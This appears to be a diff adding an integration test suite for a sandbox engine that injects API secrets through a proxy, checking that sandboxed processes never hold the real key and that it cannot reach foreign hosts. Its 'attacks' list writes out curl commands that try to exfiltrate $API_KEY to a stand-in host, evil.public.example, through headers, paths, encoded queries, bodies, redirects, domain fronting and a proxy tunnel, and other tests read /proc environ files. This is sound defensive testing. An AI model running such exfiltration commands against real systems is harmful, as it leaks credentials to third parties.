@@ -1,0 +1,281 @@
+import assert from 'node:assert/strict';
+import { execFile, spawn } from 'node:child_process';
+import { readdirSync, readFileSync } from 'node:fs';
+import { cp, mkdir, realpath } from 'node:fs/promises';
+import { dirname, join } from 'node:path';
+import { createInterface } from 'node:readline';
+import { after, before, describe, test } from 'node:test';
+import { fileURLToPath } from 'node:url';
+import { promisify } from 'node:util';
+import type { Network } from '@svc/contract';
+import { waitUntil } from '@svc/contract/testing';
+import type { EngineEvent } from '@svc/engine/client';
+import { inNamespace } from '../../packages/engine/src/testing/command.ts';
+import { startInternet, type Internet } from '../../packages/engine/src/testing/internet.ts';
+import { importChanged } from './image-fixture.ts';
+import { CLASSES, startSandbox, type TestSandbox } from './sandbox-fixture.ts';
+import { TestEngine } from './start-engine.ts';
+
+const SERVER = fileURLToPath(new URL('../../packages/engine/src/testing/https-main.ts', import.meta.url));
+const IMAGE = 'svc/clients';
+const [VALUE, NEXT_VALUE] = ['sk-live-4711-real', 'sk-live-0815-next'];
+const PLACEHOLDER = '$MSB_API_KEY';
+const [API, EVIL] = ['api.public.example', 'evil.public.example'];
+
+interface Request {
+  readonly name: string;
+  readonly said: string;
+}
+
+let internet: Internet;
+let engine: TestEngine;
+let certificate = '';
+const requests: Request[] = [];
+const events: EngineEvent[] = [];
+const undo = new AsyncDisposableStack();
+
+before(async () => {
+  internet = undo.use(await startInternet());
+  const line = inNamespace(internet.namespace, process.execPath, SERVER);
+  const child = spawn(line[0], line.slice(1), { stdio: ['ignore', 'pipe', 'inherit'] });
+  undo.defer(() => void child.kill('SIGKILL'));
+  createInterface({ input: child.stdout }).on('line', (text) => {
+    const told = JSON.parse(text) as Request | { readonly certificate: string };
+    if ('certificate' in told) certificate = told.certificate;
+    else requests.push(told);
+  });
+  engine = await TestEngine.start({ args: ['--nameserver', internet.resolver] });
+  undo.defer(() => engine.destroy());
+  await importChanged(engine, IMAGE, async (root) => {
+    await copyProgram(root, process.execPath, 'node');
+    await copyProgram(root, '/usr/bin/curl', 'curl');
+  });
+  await waitUntil(() => certificate !== '');
+  const over = new AbortController();
+  undo.defer(() => over.abort());
+  void (async () => {
+    for await (const event of engine.client.events({}, over.signal)) events.push(event);
+  })().catch(() => undefined);
+});
+after(() => undo.disposeAsync());
+
+/** With the libraries that it is linked against. */
+async function copyProgram(root: string, program: string, name: string): Promise<void> {
+  const copy = async (from: string, to: string) => {
+    await mkdir(dirname(to), { recursive: true });
+    await cp(await realpath(from), to);
+  };
+  await copy(program, join(root, 'usr/bin', name));
+  const { stdout } = await promisify(execFile)('ldd', [program]);
+  for (const [library] of stdout.matchAll(/\/\S+\.so\S*/g)) await copy(library, join(root, library));
+}
+
+function network(more: Partial<Network> = {}, entry: object = {}): Network {
+  return {
+    tls: { upstream_ca_cert: [certificate] },
+    secrets: {
+      entries: [
+        {
+          env_var: 'API_KEY',
+          placeholder: PLACEHOLDER,
+          allowed_hosts: [{ type: 'exact', value: API }],
+          ...entry,
+        },
+      ],
+    },
+    ...more,
+  };
+}
+
+async function startClient(isolation: (typeof CLASSES)[number], given: Network): Promise<TestSandbox> {
+  const secretValues = (given.secrets?.entries ?? []).length > 0 ? { API_KEY: VALUE } : {};
+  return await startSandbox(
+    engine,
+    isolation,
+    { image: { type: 'oci', reference: IMAGE }, network: given },
+    { secretValues },
+  );
+}
+
+const requestsTo = (name: string) => requests.filter((request) => request.name === name);
+const everythingSaid = () => JSON.stringify(requests);
+
+for (const isolation of CLASSES) {
+  describe(`on class ${isolation}`, { concurrency: false }, () => {
+    let sandbox: TestSandbox;
+    before(async () => {
+      sandbox = await startClient(isolation, network());
+    });
+    after(() => sandbox.remove());
+
+    test('clients use a secret towards its host without holding it', async () => {
+      requests.length = 0;
+      const curl = await sandbox.sh(`curl -sS -H "X-Key: $API_KEY" https://${API}/curl`);
+      assert.deepEqual([curl.stdout, curl.stderr], [`hello from ${API}\n`, '']);
+      const script = `fetch('https://${API}/fetch', { headers: { authorization: 'Bearer ' + process.env.API_KEY } })
+        .then((answer) => answer.text()).then(console.log)`;
+      const node = await sandbox.run({ cmd: '/usr/bin/node', args: ['-e', script] });
+      assert.match(node.stdout, /^hello from/, node.stderr);
+      const basic = await sandbox.sh(`curl -sS -u "me:$API_KEY" https://${API}/basic`);
+      assert.equal(basic.code, 0, basic.stderr);
+      const said = requestsTo(API).map((request) => request.said);
+      assert.ok(
+        said.some((text) => text.startsWith('GET /curl') && text.includes(`X-Key ${VALUE}`)),
+        said[0],
+      );
+      assert.ok(
+        said.some((text) => text.startsWith('GET /fetch') && text.includes(`Bearer ${VALUE}`)),
+        said[1],
+      );
+      const credentials = Buffer.from(`me:${VALUE}`).toString('base64');
+      assert.ok(
+        said.some((text) => text.startsWith('GET /basic') && text.includes(credentials)),
+        said[2],
+      );
+      const inside = await sandbox.sh('env; cat /proc/*/environ 2>/dev/null');
+      assert.ok(inside.stdout.includes(`API_KEY=${PLACEHOLDER}`) && !inside.stdout.includes(VALUE));
+    });
+
+    const attacks: readonly (readonly [title: string, line: string])[] = [
+      ['in a header', `curl -sS -m 20 -H "X: $API_KEY" https://${EVIL}/`],
+      ['in a path', `curl -sS -m 20 'https://${EVIL}/x/$MSB_API_KEY'`],
+      ['in a query, encoded', `curl -sS -m 20 'https://${EVIL}/?k=%24MSB%5fAPI_KEY'`],
+      ['in a body', `curl -sS -m 20 -d "k=$API_KEY" https://${EVIL}/`],
+      [
+        'in a body that is JSON with escapes',
+        `curl -sS -m 20 -d '{"k":"\\u0024MSB_API_KEY"}' https://${EVIL}/`,
+      ],
+      [
+        'in a chunked body',
+        `curl -sS -m 20 -H 'Transfer-Encoding: chunked' -d "k=$API_KEY" https://${EVIL}/`,
+      ],
+      ['in basic credentials', `curl -sS -m 20 -u "me:$API_KEY" https://${EVIL}/`],
+      ['over a redirect', `curl -sS -m 20 -L --location-trusted -H "X: $API_KEY" https://${API}/elsewhere`],
+      [
+        'under the name of another host',
+        `curl -sS -m 20 -H "X: $API_KEY" -H 'Host: ${EVIL}' https://${API}/fronted`,
+      ],
+      ['at the address of its host', `curl -sS -m 20 -k -H "X: $API_KEY" https://ADDRESS/address`],
+      [
+        'at an address by another name',
+        `curl -sS -m 3 -H "X: $API_KEY" --resolve ${API}:443:10.9.9.9 https://${API}/`,
+      ],
+      ['through a tunnel', `curl -sS -m 20 -p -x https://${EVIL}:443 -H "X: $API_KEY" https://${API}/tunnel`],
+    ];
+    for (const [title, line] of attacks) {
+      test(`a secret does not leave ${title}`, async () => {
+        requests.length = 0;
+        const { code } = await sandbox.sh(line.replace('ADDRESS', internet.publicAddress));
+        if (title !== 'under the name of another host') assert.notEqual(code, 0, 'it is stopped');
+        const control = await sandbox.sh(`curl -sS https://${API}/control`);
+        assert.equal(control.code, 0, control.stderr);
+        // What was sent earlier arrived earlier.
+        await waitUntil(() => requests.some((request) => request.said.includes('/control')));
+        // A body streams: the host may see that one was to come, and nothing of it.
+        const seen = requestsTo(EVIL).map(({ said }) => said);
+        assert.ok(title.includes('body') || seen.length === 0, seen[0]);
+        assert.ok(!/MSB|API_KEY/.test(seen.join('')), seen[0]);
+        const elsewhere = requests.filter(({ name, said }) => name !== API || said.includes(EVIL));
+        assert.ok(!JSON.stringify(elsewhere).includes(VALUE), everythingSaid());
+      });
+    }
+
+    test('what was stopped is told', async () => {
+      await waitUntil(() =>
+        events.some(({ type, sandboxId }) => type === 'secret_violation' && sandboxId === sandbox.id),
+      );
+      const told = JSON.stringify(events);
+      assert.ok(told.includes('API_KEY') && !told.includes(VALUE));
+    });
+  });
+}
+
+test('a value is found nowhere on the host but in files of memory that only root reads', async () => {
+  const sandbox = await startClient('container', network());
+  try {
+    await sandbox.sh(`curl -sS -m 20 -H "X: $API_KEY" https://${EVIL}/`);
+    await promisify(execFile)('sync', []);
+    const { stdout } = await promisify(execFile)('sh', [
+      '-c',
+      `grep -rlF ${VALUE} ${engine.folder}/sandboxes ${engine.logFile} || true`,
+    ]);
+    assert.equal(stdout, '');
+    const lines = readdirSync('/proc')
+      .filter((name) => /^\d+$/.test(name) && name !== String(process.pid))
+      .map((pid) => read(`/proc/${pid}/cmdline`) + read(`/proc/${pid}/environ`));
+    assert.ok(!lines.some((text) => text.includes(VALUE)));
+    assert.ok(!JSON.stringify(await engine.client.listSandboxes()).includes(VALUE));
+  } finally {
+    await sandbox.remove();
+  }
+});
+
+function read(path: string): string {
+  try {
+    return readFileSync(path, 'utf8');
+  } catch {
+    return '';
+  }
+}
+
+test('a value changes while the sandbox runs, and outlives the engine', async () => {
+  const sandbox = await startClient('container', network());
+  const ask = async (path: string) => {
+    const { code, stderr } = await sandbox.sh(
+      `curl -sS --retry 5 --retry-all-errors -H "X-Key: $API_KEY" https://${API}${path}`,
+    );
+    assert.equal(code, 0, stderr);
+    return requestsTo(API).findLast(({ said }) => said.includes(path))?.said ?? '';
+  };
+  try {
+    assert.match(await ask('/first'), new RegExp(VALUE));
+    await engine.client.setNetwork(sandbox.id, { secretValues: { API_KEY: NEXT_VALUE } });
+    assert.match(await ask('/second'), new RegExp(NEXT_VALUE));
+    await engine.restart();
+    assert.match(await ask('/third'), new RegExp(NEXT_VALUE));
+    await engine.client.stopSandbox(sandbox.id);
+    await engine.client.startSandbox(sandbox.id);
+    assert.match(await ask('/fourth'), new RegExp(NEXT_VALUE));
+  } finally {
+    await sandbox.remove();
+  }
+});
+
+test('a sandbox ends that breaks a rule that says so; one without its value does not start', async () => {
+  const sandbox = await startClient(
+    'container',
+    network({}, { on_violation: { type: 'block_and_terminate' } }),
+  );
+  try {
+    await sandbox.sh(`curl -sS -m 20 -H "X: $API_KEY" https://${EVIL}/`).catch(() => undefined);
+    await waitUntil(async () => (await engine.client.getSandbox(sandbox.id)).state === 'failed');
+    const { end } = await engine.client.getSandbox(sandbox.id);
+    assert.equal(end?.reason, 'secret_violation');
+  } finally {
+    await sandbox.remove();
+  }
+  const spec = { image: { type: 'oci', reference: IMAGE } as const, network: network() };
+  await assert.rejects(
+    engine.client.createSandbox({ spec, start: true, isolation: 'container' }),
+    /network\.secrets\.entries\[0\]\.value/,
+  );
+});
+
+test('strict names are reached over TLS and HTTP, and not by what says no name', async () => {
+  const allowed = { direction: 'egress', action: 'allow', destination: { domain: API } } as const;
+  const sandbox = await startClient('container', { strict: true, policy: { rules: [allowed] } });
+  try {
+    requests.length = 0;
+    const tls = await sandbox.sh(`curl -sSk -m 20 https://${API}/strict`);
+    assert.equal(tls.stdout, `hello from ${API}\n`, tls.stderr);
+    const foreign = await sandbox.sh(
+      `curl -sSk -m 20 --resolve ${EVIL}:443:${internet.publicAddress} https://${EVIL}/`,
+    );
+    assert.notEqual(foreign.code, 0);
+    const silent = await sandbox.sh(`echo hi | timeout 5 nc ${API} 8080`);
+    assert.ok(!silent.stdout.includes('you are'), silent.stdout);
+    assert.deepEqual(requestsTo(EVIL), []);
+  } finally {
+    await sandbox.remove();
+  }
+});
